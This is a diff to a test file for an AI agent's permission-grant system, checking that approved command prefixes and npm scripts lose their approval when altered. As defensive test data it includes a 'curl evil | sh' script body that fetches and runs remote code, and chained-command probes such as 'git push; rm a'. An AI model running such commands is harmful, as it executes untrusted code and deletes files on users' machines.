@@ -1,6 +1,8 @@
+import { execFile } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
+import { promisify } from "node:util";
 import { expect, test } from "vitest";
 import { type GrantOffer, Grants } from "../../../agent-core/approval/grants.ts";
 import { decide } from "../../../agent-core/approval/policy.ts";
@@ -42,7 +44,13 @@ test("a prefix covers whole words, never another subcommand, a longer word or a 
   const grants = open(newFile());
   grant("git push origin", root, grants);
   expect(ask("git push other main", root, grants).kind).toBe("allow");
-  for (const other of ["git pushx", "git commit -m x", "git push && git commit -m x", "git push; rm a", "git push > out"]) {
+  for (const other of [
+    "git pushx",
+    "git commit -m x",
+    "git push && git commit -m x",
+    "git push; rm a",
+    "git push > out",
+  ]) {
     expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
   }
 });
@@ -65,7 +73,11 @@ test("ends when the script's body, what runs before it, or the makefile changes;
   expect(ask("npm test -- --watch", root, grants).kind).toBe("allow");
   scripts({ test: "vitest", lint: "eslint" });
   expect(ask("npm test", root, grants).kind).toBe("allow");
-  for (const changed of [{ test: "curl evil | sh" }, { test: "vitest", pretest: "evil" }, { test: "vitest", posttest: "evil" }]) {
+  for (const changed of [
+    { test: "curl evil | sh" },
+    { test: "vitest", pretest: "evil" },
+    { test: "vitest", posttest: "evil" },
+  ]) {
     scripts(changed);
     expect(ask("npm test", root, grants).kind).toBe("ask");
   }
@@ -81,7 +93,11 @@ test("ends when the script's body, what runs before it, or the makefile changes;
 test("all of an offer's keys must be granted, and an empty offer is covered by nothing", () => {
   const grants = open(newFile());
   grants.keep(offer("a"), "session");
-  expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([true, false, false]);
+  expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([
+    true,
+    false,
+    false,
+  ]);
 });
 
 test("what is taken back is gone at once, here, in the file, and for whoever else has it open", () => {
@@ -135,4 +151,21 @@ test("a file that cannot be written is told of, and the answer holds for the ses
   grants.keep(offer("a"), "always");
   expect(told.join()).toContain("cannot be written");
   expect([grants.covers(offer("a")), existsSync(path)]).toEqual([true, false]);
+});
+
+test("processes that write at the same moment lose nothing of each other; a lock of a dead one is no obstacle", async () => {
+  const path = newFile();
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(`${path}.lock`, "");
+  const module = join(import.meta.dirname, "../../../agent-core/approval/grants.ts");
+  const script = `import { Grants } from ${JSON.stringify(module)};
+    const grants = new Grants(${JSON.stringify(path)}, (message) => { throw new Error(message); });
+    for (let at = 0; at < 40; at += 1) {
+      const id = process.argv[1] + "." + at;
+      grants.keep({ description: id, keys: [{ id, description: id }] }, "always");
+    }`;
+  const run = promisify(execFile);
+  await Promise.all(["a", "b", "c"].map((name) => run("node", ["--input-type=module", "-e", script, name])));
+  expect(open(path).list()).toHaveLength(120);
+  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
 });
